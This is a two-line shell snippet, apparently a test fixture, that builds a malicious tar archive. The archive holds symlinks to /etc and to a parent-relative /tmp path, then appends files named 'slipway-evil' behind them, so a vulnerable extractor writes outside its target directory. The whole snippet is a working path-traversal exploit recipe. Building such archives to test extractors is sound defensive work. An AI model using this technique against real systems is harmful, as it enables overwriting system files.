mkdir d; cd d; ln -s /etc out; ln -s ../../../../tmp up; tar -cf ../a.tar out up; rm out up; mkdir out up; echo evil >out/slipway-evil; echo evil >up/slipway-evil
tar -rf ../a.tar out/slipway-evil up/slipway-evil; cd ..; rm -r d
